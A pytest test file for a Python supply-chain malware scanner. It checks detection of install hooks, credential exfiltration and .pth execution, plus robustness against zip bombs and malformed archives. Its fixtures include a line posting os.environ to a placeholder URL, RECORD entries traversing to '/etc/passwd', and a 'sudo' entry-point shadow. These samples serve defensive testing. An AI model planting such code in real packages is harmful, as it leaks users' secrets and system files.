"""What the heuristics claim, installed packages, and hostile input: bounded, never a crash."""

from __future__ import annotations

import gzip
import io
import tarfile
import time
import zipfile
from pathlib import Path

import pytest
from tests.supply.heuristics import malicious, packages

from bastion.analyzer import Context, Registry, Target
from bastion.catalogue import all_rules, default_analyzers
from bastion.engine import scan_paths
from bastion.findings import Finding, Location, Severity
from bastion.supply.heuristics import RULES, HeuristicsAnalyzer
from bastion.supply.heuristics.sources import MAX_FILE

ANALYZER = HeuristicsAnalyzer()


def scan(*paths: Path) -> list[Finding]:
    return list(scan_paths(list(paths), registry=Registry([ANALYZER])).findings)


def target_of(path: Path, members: tuple[str, ...] = ()) -> Target:
    data = path.read_bytes()
    return Target.from_bytes(data, Location(path=str(path), members=members))


# -- claims ------------------------------------------------------------------------------------


def test_claims_packages_by_content_not_by_name(tmp_path: Path) -> None:
    sdist = packages.sdist(tmp_path, "pkg", "1.0", {"setup.py": "print(1)\n"})
    renamed = tmp_path / "download.bin"
    renamed.write_bytes(sdist.read_bytes())
    assert ANALYZER.claims(target_of(renamed))
    dataset = tmp_path / "images.tar.gz"
    with tarfile.open(dataset, "w:gz") as archive:
        info = tarfile.TarInfo("train/0001.txt")
        archive.addfile(info, io.BytesIO(b""))
    assert not ANALYZER.claims(target_of(dataset))  # not laid out as name-version/
    text = tmp_path / "notes.txt"
    text.write_text("hello")
    assert not ANALYZER.claims(target_of(text))


def test_pth_checkpoint_is_not_read_as_a_pth_file(tmp_path: Path) -> None:
    """A PyTorch checkpoint named .pth is a zip (or a pickle), not site.py's text file."""
    checkpoint = tmp_path / "model.pth"
    with zipfile.ZipFile(checkpoint, "w") as archive:
        archive.writestr("model/data.pkl", b"\x80\x02}q\x00.")
    assert scan(checkpoint) == []
    pickle_pth = tmp_path / "legacy.pth"
    pickle_pth.write_bytes(b"\x80\x02}q\x00.")
    assert not ANALYZER.claims(target_of(pickle_pth))


def test_inside_of_a_tar_gz_is_not_claimed_again(tmp_path: Path) -> None:
    sdist = packages.sdist(tmp_path, "pkg", "1.0", {"setup.py": "print(1)\n"})
    inner = gzip.decompress(sdist.read_bytes())
    nested = Target.from_bytes(inner, Location(path=str(sdist), members=("pkg-1.0.tar",)),
                               depth=1)
    assert not ANALYZER.claims(nested)
    plain = tmp_path / "pkg-1.0.tar"
    plain.write_bytes(inner)
    assert ANALYZER.claims(target_of(plain))


@pytest.mark.parametrize("fmt", ["tar.gz", "tar.bz2", "tar.xz", "tar", "zip"])
def test_every_sdist_format_is_read(tmp_path: Path, fmt: str, marker: Path) -> None:
    sdist = packages.sdist(tmp_path, "helpfulutils", "1.0",
                           {"setup.py": malicious.dropper_setup(marker)}, fmt=fmt)
    rules = {f.rule_id for f in scan(sdist)}
    assert {"SUPPLY-INSTALL-HOOK", "SUPPLY-DOWNLOAD-EXECUTE"} <= rules


def test_default_registry_reports_each_finding_once(tmp_path: Path, marker: Path) -> None:
    """The model capability's archive analyzer walks the same sdist; nothing doubles."""
    names = {a.name for a in default_analyzers()}
    assert "supply-heuristics" in names
    sdist = packages.sdist(tmp_path, "helpfulutils", "1.0",
                           {"setup.py": malicious.dropper_setup(marker)})
    findings = [f for f in scan_paths([sdist]).findings if f.rule_id.startswith("SUPPLY-")]
    keys = [(f.rule_id, f.location) for f in findings]
    assert len(keys) == len(set(keys))
    assert sum(f.rule_id == "SUPPLY-DOWNLOAD-EXECUTE" for f in findings) == 1


def test_rules_are_in_the_catalogue() -> None:
    ids = {r.id for r in all_rules()}
    assert {r.id for r in RULES} <= ids
    assert all(r.id.startswith("SUPPLY-") and r.description for r in RULES)


# -- installed packages ------------------------------------------------------------------------


def test_installed_package_findings_point_into_the_folder(tmp_path: Path, marker: Path) -> None:
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    packages.installed(site, "ctx", "0.2.6", {"ctx.py": malicious.ctx_module(marker)},
                       extra_record=("../../../bin/ctx-cli", "../../../../etc/passwd"))
    packages.installed(site, "tools", "1.0", {"tools/__init__.py": ""},
                       entry_points="[console_scripts]\nsudo = tools:main\n")
    findings = scan(tmp_path / "venv")
    exfil = [f for f in findings if f.rule_id == "SUPPLY-CREDENTIAL-EXFILTRATION"]
    assert len(exfil) == 1
    assert exfil[0].severity is Severity.CRITICAL
    assert exfil[0].location.path.endswith("site-packages")
    assert exfil[0].location.members == ("ctx.py",)
    assert exfil[0].location.line == 17
    shadow = [f for f in findings if f.rule_id == "SUPPLY-ENTRY-POINT-SHADOW"]
    assert [f.properties["command"] for f in shadow] == ["sudo"]
    assert not marker.exists()


def test_record_paths_leading_out_are_not_read(tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    secret = tmp_path / "outside.py"
    secret.write_text("import os, requests\nrequests.post('u', data=dict(os.environ))\n")
    packages.installed(site, "pkg", "1.0", {"pkg/__init__.py": ""})
    (site / "pkg" / "link.py").symlink_to(secret)
    record = site / "pkg-1.0.dist-info" / "RECORD"
    record.write_text(record.read_text() + "pkg/link.py,,\n/etc/passwd,,\n../outside.py,,\n")
    findings = scan(site)
    assert not [f for f in findings if f.rule_id == "SUPPLY-CREDENTIAL-EXFILTRATION"]
    assert any(f.rule_id == "SUPPLY-PACKAGE-NOT-ANALYSED" and f.location.members ==
               ("pkg/link.py",) for f in findings)


# -- hostile input -----------------------------------------------------------------------------


def test_zip_bomb_disguised_as_a_wheel(tmp_path: Path) -> None:
    path = tmp_path / "bomb-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb/__init__.py", b"#" * (64 << 20))
        archive.writestr("bomb-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n")
    started = time.perf_counter()
    findings = scan(path)
    assert time.perf_counter() - started < 10
    assert any(f.rule_id == "SUPPLY-PACKAGE-NOT-ANALYSED" and "bomb/__init__.py" in
               f.location.members for f in findings)


def test_oversized_source_is_reported_not_parsed(tmp_path: Path) -> None:
    big = "".join(f"v{i} = {i * 7919 % 100003}\n" for i in range(MAX_FILE // 12))
    wheel = packages.wheel(tmp_path, "big", "1.0", {"big/__init__.py": big})
    found = [f for f in scan(wheel) if f.rule_id == "SUPPLY-PACKAGE-NOT-ANALYSED"]
    assert found
    assert "larger than" in found[0].message
    assert found[0].severity is Severity.LOW


def test_deeply_nested_source_is_a_finding_not_a_crash(tmp_path: Path) -> None:
    wheel = packages.wheel(tmp_path, "deep", "1.0", {
        "deep/a.py": "x = " + "(" * 5000 + ")" * 5000,
        "deep/b.py": "x = " + "-" * 300_000 + "1",
        "deep/c.py": "print 'py2'\n"})
    found = {f.location.members[-1]: f for f in scan(wheel)
             if f.rule_id == "SUPPLY-PACKAGE-NOT-ANALYSED"}
    assert "deep/a.py" in found
    assert "deep/c.py" in found
    assert found["deep/c.py"].severity is Severity.INFO
    assert not [f for f in scan(wheel) if f.rule_id == "SCAN-ANALYZER-ERROR"]


def test_truncated_sdist_is_reported(tmp_path: Path) -> None:
    sdist = packages.sdist(tmp_path, "pkg", "1.0", {"setup.py": "print(1)\n" * 2000,
                                                    "pkg/__init__.py": "x = 1\n" * 2000})
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(sdist.read_bytes()[: len(sdist.read_bytes()) // 2])
    findings = scan(cut)
    assert not [f for f in findings if f.rule_id == "SCAN-ANALYZER-ERROR"]


def test_analyze_directly_with_a_context(tmp_path: Path, marker: Path) -> None:
    wheel = packages.wheel(tmp_path, "speedups", "1.0", {"x.pth": malicious.pth_line(marker)})
    found = list(ANALYZER.analyze(target_of(wheel), Context(registry=Registry([ANALYZER]))))
    assert any(f.rule_id == "SUPPLY-PTH-EXEC" and f.severity is Severity.CRITICAL
               for f in found)
    assert not marker.exists()
